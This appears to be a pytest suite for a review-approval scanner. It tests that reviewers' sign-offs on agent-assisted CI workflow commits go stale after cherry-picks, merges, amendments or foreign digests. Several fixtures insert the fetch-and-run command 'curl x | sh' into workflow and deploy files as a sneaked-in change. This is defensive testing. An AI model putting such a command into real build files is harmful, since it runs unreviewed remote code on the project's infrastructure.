"""Approvals of something else: of another commit, of what was there before, of another branch or repository.

A digest binds an approval to what was looked at; a trailer without one speaks of its own commit only. Each attack takes
a sound approval to a place where it was never given; its twin takes it to one where it still holds.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from kit.history import ANN, BOB, CLAUDE_TRAILER, Content, History, Repo
from kit.judging import entry, scan

from scanner.model.approval import Approval, Reason
from scanner.model.report import Report
from scanner.model.scale import Outcome

WORKFLOW, MAKE = ".github/workflows/release.yml", "Makefile"
JOBS = "jobs: {build: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n"
BEFORE, AFTER = f"on: push\npermissions: read-all\n{JOBS}", f"on: push\npermissions: write-all\n{JOBS}"
WORK = f"Work\n\n{CLAUDE_TRAILER}\n"
REVIEWED = f"Reviewed-by: {BOB}"
OWN = f"Work\n\n{CLAUDE_TRAILER}\n{REVIEWED}\n"
START: dict[str, Content] = {WORKFLOW: BEFORE, MAKE: "all:\n", "deploy.sh": "make\n", "README.md": "x\n"}


class Branch:
    """A branch in the making on `base`, by git itself."""

    def __init__(self, folder: Path) -> None:
        history = History()
        history.commit("Start", files=START)
        self.repo = history.write(folder)
        self.base = self.repo.head

    def commit(self, message: str = WORK, files: dict[str, Content] | None = None, *, author: str = ANN) -> str:
        name, _, email = author.removesuffix(">").partition(" <")
        self.repo.stage(files or {})
        people = {"GIT_AUTHOR_NAME": name, "GIT_AUTHOR_EMAIL": email}
        people |= {"GIT_COMMITTER_NAME": name, "GIT_COMMITTER_EMAIL": email}
        self.repo.git(
            "commit", "-q", "--allow-empty", "--cleanup=verbatim", "-F", "-", stdin=message.encode(), **people
        )
        return self.repo.head

    def approve(self, digest: str = "") -> str:
        words = f"Approve\n\n{REVIEWED}\nReviewed-digest: {digest or self.report().review_digest}\n"
        return self.commit(words, author=BOB)

    def report(self) -> Report:
        return scan(self.repo, f"{self.base}..HEAD")

    def approvals(self, oid: str) -> tuple[Approval, ...]:
        return entry(self.report(), oid).approvals

    def approved(self) -> str:
        """A workflow changed with an agent, and Bob's approval of that."""
        work = self.commit(files={WORKFLOW: AFTER})
        self.approve()
        assert self.report().outcome is Outcome.PASS
        return work


@pytest.fixture
def branch(tmp_path: Path) -> Branch:
    return Branch(tmp_path / "r")


def stale(report: Report, oid: str) -> None:
    assert report.outcome is Outcome.HOLD
    found = entry(report, oid)
    assert [each for each in found.approvals if each.counts] == []
    assert Reason.STALE in {each.reason for each in found.approvals}


def ways(repo: Repo, base: str) -> list[Report]:
    return [scan(repo, f"{base}..HEAD"), scan(repo, "HEAD"), scan(repo)]


# B16: a cherry-pick brings an old approval along


def picked(branch: Branch, origin: str, *flags: str) -> str:
    branch.repo.git("cherry-pick", "-x", "--allow-empty", "--keep-redundant-commits", *flags, origin)
    return branch.repo.head


def elsewhere(branch: Branch, files: dict[str, Content]) -> str:
    """An approved commit on another branch, which started from another state of `files`."""
    branch.repo.git("checkout", "-q", "-b", "elsewhere", branch.base)
    branch.commit("By hand\n", files)
    origin = branch.commit(OWN, {WORKFLOW: AFTER})
    branch.repo.git("checkout", "-q", "main")
    return origin


def note(oid: str) -> str:
    return f"(cherry picked from commit {oid})"


def test_b16_picked_onto_another_state(branch: Branch) -> None:
    origin = elsewhere(branch, {WORKFLOW: f"# a comment\n{BEFORE}"})
    oid = picked(branch, origin, "-Xtheirs")
    assert note(origin) in entry(branch.report(), oid).commit.message
    for report in ways(branch.repo, branch.base):
        found = entry(report, oid)
        assert found.verdict.outcome is Outcome.HOLD
        assert [each.reason for each in found.approvals] == [Reason.STALE]


def altered(branch: Branch, origin: str, files: dict[str, Content], message: str = "") -> str:
    return branch.commit(message or f"{OWN}{note(origin)}\n", files)


OTHER_FILES: dict[str, dict[str, Content]] = {
    "another content": {WORKFLOW: AFTER.replace("make", "curl x | sh")},
    "white space more": {WORKFLOW: AFTER.replace("\n", " \n")},
    "another path": {MAKE: "all:\n\tmake release\n"},
    "a path more": {WORKFLOW: AFTER, MAKE: "all:\n\tmake release\n"},
}


@pytest.mark.parametrize("files", OTHER_FILES.values(), ids=OTHER_FILES)
def test_b16_what_was_picked_was_changed(branch: Branch, files: dict[str, Content]) -> None:
    origin = elsewhere(branch, {"README.md": "y\n"})
    altered(branch, origin, files)
    for report in ways(branch.repo, branch.base):
        stale(report, branch.repo.head)


@pytest.mark.parametrize("named", ("1" * 40, "f" * 64))
def test_b16_the_original_is_not_here(branch: Branch, named: str) -> None:
    oid = altered(branch, named, {WORKFLOW: AFTER})
    for report in ways(branch.repo, branch.base):
        stale(report, oid)


def test_b16_the_original_is_no_commit(branch: Branch) -> None:
    blob = branch.repo.git("hash-object", "-w", "--stdin", stdin=b"x\n")
    oid = altered(branch, blob, {WORKFLOW: AFTER})
    stale(branch.report(), oid)


def test_b16_picked_twice(branch: Branch) -> None:
    """The line right below the approval names the commit it was written for."""
    origin = elsewhere(branch, {"README.md": "y\n"})
    oid = altered(branch, "", {WORKFLOW: AFTER}, f"{OWN}{note('1' * 40)}\n{note(origin)}\n")
    stale(branch.report(), oid)


def test_b16_twin_the_very_same_change(branch: Branch) -> None:
    oid = picked(branch, elsewhere(branch, {"README.md": "y\n", "docs.md": "z\n"}))
    for report in ways(branch.repo, branch.base):
        found = entry(report, oid)
        assert found.verdict.outcome is Outcome.PASS
        assert [each.counts for each in found.approvals] == [True]


def test_b16_twin_approved_again_after_the_pick(branch: Branch) -> None:
    """What stands below the note was written for the commit that has it."""
    oid = altered(branch, "", {WORKFLOW: AFTER}, f"{WORK}{note('1' * 40)}\n{REVIEWED}\n")
    for report in ways(branch.repo, branch.base):
        assert entry(report, oid).verdict.outcome is Outcome.PASS


def test_b16_an_old_digest_in_a_picked_message(branch: Branch) -> None:
    digest = "twokey1:" + "0" * 64
    oid = branch.commit(f"{OWN}Reviewed-digest: {digest}\n", {WORKFLOW: AFTER})
    for report in ways(branch.repo, branch.base):
        found = entry(report, oid)
        assert (found.verdict.outcome, {each.reason for each in found.approvals}) == (Outcome.HOLD, {Reason.STALE})


# B18: a trailer on a merge


def merge(branch: Branch, *block: str, extra: dict[str, Content] | None = None) -> tuple[str, str, str]:
    """A commit on main, one on a topic, and the merge that brings the topic, with what its maker adds."""
    branch.repo.git("checkout", "-q", "-b", "topic")
    topic = branch.commit(files={WORKFLOW: AFTER})
    branch.repo.git("checkout", "-q", "main")
    main = branch.commit(files={MAKE: "all:\n\tmake release\n"})
    branch.repo.git("merge", "-q", "--no-ff", "--no-commit", "topic")
    return main, topic, branch.commit("\n".join(("Merge branch 'topic'", "", *block, "")), extra)


def test_b18_covers_what_the_merge_brings_and_nothing_else(branch: Branch) -> None:
    main, topic, _ = merge(branch, REVIEWED)
    report = branch.report()
    assert report.outcome is Outcome.HOLD
    assert entry(report, topic).verdict.outcome is Outcome.PASS
    assert entry(report, main).verdict.outcome is Outcome.HOLD
    assert entry(report, main).approvals == ()


def test_b18_by_who_made_what_it_brings(branch: Branch) -> None:
    _, topic, _ = merge(branch, f"Reviewed-by: {ANN}")
    assert [each.reason for each in branch.approvals(topic)] == [Reason.CONTRIBUTOR]
    assert branch.report().outcome is Outcome.HOLD


def test_b18_by_who_slipped_something_into_it(branch: Branch) -> None:
    """The maker of a merge contributed what the merge itself holds, and cannot review that."""
    _, _, made = merge(branch, f"Reviewed-by: {ANN}", CLAUDE_TRAILER, extra={"deploy.sh": "curl x | sh\n"})
    found = entry(branch.report(), made)
    assert found.verdict.outcome is Outcome.HOLD
    assert {each.reason for each in found.approvals} == {Reason.CONTRIBUTOR}


def test_b18_twin_it_brings_everything(branch: Branch) -> None:
    branch.repo.git("checkout", "-q", "-b", "topic")
    topic = branch.commit(files={WORKFLOW: AFTER})
    branch.repo.git("checkout", "-q", "main")
    branch.repo.git("merge", "-q", "--no-ff", "--no-commit", "topic")
    branch.commit(f"Merge branch 'topic'\n\n{REVIEWED}\n")
    assert [(each.counts, each.source.value) for each in branch.approvals(topic)] == [(True, "merge")]
    assert branch.report().outcome is Outcome.PASS


# B43, B44, B45, B100: approve, then change

LATER = {
    "b43 another content": AFTER.replace("make", "curl x | sh"),
    "b43 a line more": f"{AFTER}env: {{A: b}}\n",
    "b44 a blank line more": f"{AFTER}\n",
    "b44 blanks at a line's end": AFTER.replace("\n", "  \n"),
    "b44 wider gaps": AFTER.replace(", ", ",  "),
    "b44 no newline at the end": AFTER.rstrip("\n"),
    "b100 Windows line ends": AFTER.replace("\n", "\r\n"),
}


@pytest.mark.parametrize("text", LATER.values(), ids=LATER)
def test_b43_b44_b100_changed_after_the_approval(branch: Branch, text: str) -> None:
    first = branch.approved()
    branch.commit(files={WORKFLOW: text})
    stale(branch.report(), first)


@pytest.mark.parametrize("text", LATER.values(), ids=LATER)
def test_b43_b44_b45_b100_amended_after_the_approval(branch: Branch, text: str) -> None:
    """The same title, the same message, the same trailer and digest; another content (threat B45)."""
    digest = branch_digest(branch)
    branch.repo.git("reset", "-q", "--hard", branch.base)
    oid = branch.commit(f"{OWN}Reviewed-digest: {digest}\n", {WORKFLOW: text})
    for report in ways(branch.repo, branch.base):
        found = entry(report, oid)
        assert (found.verdict.outcome, {each.reason for each in found.approvals}) == (Outcome.HOLD, {Reason.STALE})


def branch_digest(branch: Branch) -> str:
    branch.commit(files={WORKFLOW: AFTER})
    return branch.report().review_digest


def test_b43_a_mode_changed_after_the_approval(branch: Branch) -> None:
    first = branch.approved()
    branch.repo.git("update-index", "--chmod=+x", WORKFLOW)
    branch.commit()
    stale(branch.report(), first)


def test_b43_removed_after_the_approval(branch: Branch) -> None:
    first = branch.approved()
    branch.commit(files={WORKFLOW: None})
    stale(branch.report(), first)


def test_b43_another_path_after_the_approval(branch: Branch) -> None:
    """The new path waits; the one that was approved does not."""
    first = branch.approved()
    second = branch.commit(files={MAKE: "all:\n\tmake release\n"})
    report = branch.report()
    assert report.outcome is Outcome.HOLD
    assert entry(report, first).verdict.outcome is Outcome.PASS
    assert entry(report, second).verdict.outcome is Outcome.HOLD


def test_b43_b45_twin_what_does_not_ship_may_follow(branch: Branch) -> None:
    branch.approved()
    branch.commit(files={"README.md": "y\n"})
    branch.commit("Another title\n", {"src/app.py": "x = 1\n"})
    assert branch.report().outcome is Outcome.PASS


def test_b44_twin_approved_again(branch: Branch) -> None:
    branch.approved()
    branch.commit(files={WORKFLOW: f"{AFTER}\n"})
    branch.approve()
    assert branch.report().outcome is Outcome.PASS


def test_b45_twin_another_title_for_the_same_content(branch: Branch) -> None:
    digest = branch_digest(branch)
    branch.repo.git("reset", "-q", "--hard", branch.base)
    branch.commit(
        f"Quite another title\n\n{CLAUDE_TRAILER}\n{REVIEWED}\nReviewed-digest: {digest}\n", {WORKFLOW: AFTER}
    )
    assert branch.report().outcome is Outcome.PASS


# B47 and a digest from elsewhere


def test_b47_taken_back_and_done_again_on_another_base(branch: Branch) -> None:
    """Asked of the branch. A history has no base, and from the first one the difference is the one reviewed."""
    branch.approved()
    digest = branch.repo.git("log", "-1", "--format=%(trailers:key=Reviewed-digest,valueonly)").strip()
    branch.commit("Back\n", {WORKFLOW: f"# other\n{BEFORE}"})
    branch.base = branch.repo.head
    again = branch.commit(files={WORKFLOW: AFTER})
    branch.approve(digest)
    assert branch.report().outcome is Outcome.HOLD
    assert [each for each in branch.approvals(again) if each.counts] == []


def test_b47_twin_done_again_on_the_same_base(branch: Branch) -> None:
    """The very difference that was reviewed; that it was gone in between changes nothing about it."""
    branch.approved()
    digest = branch.repo.git("log", "-1", "--format=%(trailers:key=Reviewed-digest,valueonly)").strip()
    branch.commit("Back\n", {WORKFLOW: BEFORE})
    branch.base = branch.repo.head
    branch.commit(files={WORKFLOW: AFTER})
    branch.approve(digest)
    assert branch.report().outcome is Outcome.PASS


FOREIGN: dict[str, dict[str, Content]] = {
    "of another path": {MAKE: "all:\n\tmake release\n"},
    "of a path more": {WORKFLOW: AFTER, MAKE: "all:\n\tmake release\n"},
    "of another content": {WORKFLOW: f"{AFTER}# reviewed\n"},
    "of a path that does not ship": {"KEYS": "x\n"},
}


@pytest.mark.parametrize("files", FOREIGN.values(), ids=FOREIGN)
@pytest.mark.parametrize("apart", (True, False), ids=("in a commit of its own", "in the commit"))
def test_a_digest_from_elsewhere(tmp_path: Path, files: dict[str, Content], apart: bool) -> None:
    other = Branch(tmp_path / "other")
    other.commit(files=files)
    digest = other.report().review_digest
    assert digest
    here = Branch(tmp_path / "here")
    oid = here.commit(WORK if apart else f"{OWN}Reviewed-digest: {digest}\n", {WORKFLOW: AFTER})
    if apart:
        here.approve(digest)
    report = here.report()
    assert report.outcome is Outcome.HOLD
    assert [each for each in entry(report, oid).approvals if each.counts] == []
    assert entry(scan(here.repo), oid).verdict.outcome is Outcome.HOLD


BROKEN = {
    "nothing": "",
    "a word": "yes",
    "another scheme": "sha256:" + "0" * 64,
    "capitals": "TWOKEY1:" + "0" * 64,
    "a digit short": "twokey1:" + "0" * 63,
    "a digit more": "twokey1:" + "0" * 65,
    "two at once": "twokey1:" + "0" * 64 + " twokey1:" + "1" * 64,
}


@pytest.mark.parametrize("value", BROKEN.values(), ids=BROKEN)
def test_a_digest_that_is_none_voids_the_approval(branch: Branch, value: str) -> None:
    oid = branch.commit(f"{OWN}Reviewed-digest: {value}\n", {WORKFLOW: AFTER})
    for report in ways(branch.repo, branch.base):
        found = entry(report, oid)
        assert (found.verdict.outcome, {each.reason for each in found.approvals}) == (Outcome.HOLD, {Reason.BAD_DIGEST})


def test_two_digests_void_each_other(branch: Branch) -> None:
    digest = branch_digest(branch)
    branch.repo.git("reset", "-q", "--hard", branch.base)
    lines = f"Reviewed-digest: {digest}\nReviewed-digest: twokey1:{'0' * 64}\n"
    oid = branch.commit(f"{OWN}{lines}", {WORKFLOW: AFTER})
    assert {each.reason for each in branch.approvals(oid)} == {Reason.BAD_DIGEST}
    assert branch.report().outcome is Outcome.HOLD


def test_a_twin_the_digest_of_the_same_change_in_a_clone(tmp_path: Path) -> None:
    """Paths, modes and ids are all it binds: the same change is the same change wherever it was reviewed."""
    other, here = Branch(tmp_path / "other"), Branch(tmp_path / "here")
    digest = branch_digest(other)
    here.commit(files={WORKFLOW: AFTER})
    here.approve(digest)
    assert here.report().outcome is Outcome.PASS
